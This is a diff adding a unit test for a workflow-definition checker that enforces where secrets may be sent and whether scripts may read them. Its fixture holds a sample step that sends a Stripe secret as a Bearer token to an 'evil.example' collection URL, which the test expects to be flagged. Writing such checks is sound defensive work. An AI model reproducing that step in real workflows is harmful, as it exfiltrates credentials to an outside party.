@@ -13,6 +13,47 @@ describe("checkDefinitionText", () => {
     );
   });
 
+  it("flags, at its line and in the runner's words, a literal destination the secret's policy refuses", () => {
+    const text = JSON.stringify(
+      {
+        name: "Charge",
+        trigger: { type: "manual" },
+        steps: [
+          {
+            id: "charge",
+            type: "http",
+            url: "https://evil.example/collect",
+            headers: { Authorization: "Bearer {{secrets.stripe_secret}}" },
+          },
+          { id: "peek", type: "script", code: "return secrets.stripe_secret.length" },
+        ],
+      },
+      null,
+      2,
+    );
+    const policies = new Map([
+      ["stripe_secret", { destinations: ["https://api.stripe.com"], scripts: false }],
+    ]);
+    const lineOf = (needle: string) => text.split("\n").findIndex((l) => l.includes(needle)) + 1;
+    expect(checkDefinitionText(text, policies).issues).toEqual([
+      {
+        severity: "error",
+        line: lineOf('"Authorization"'),
+        message:
+          'step "charge" (headers.Authorization): secret "stripe_secret" may not be sent to https://evil.example; it may go only to https://api.stripe.com. Send it to one of those, or enter the secret\'s value again with this destination added',
+      },
+      {
+        severity: "error",
+        line: lineOf('"code"'),
+        message:
+          'step "peek" (code): secret "stripe_secret" may not be read by script steps. Remove it from the script, or enter the secret\'s value again with scripts allowed',
+      },
+    ]);
+    // Unrestricted (legacy or "*"), the same definition passes.
+    const open = new Map([["stripe_secret", { destinations: ["*"], scripts: true }]]);
+    expect(checkDefinitionText(text, open).issues).toEqual([]);
+  });
+
   it("points missing secrets at their line, with what to do", () => {
     const check = checkDefinitionText(EXAMPLE_DEFINITION, new Set());
     expect(check.definition).toBeDefined();
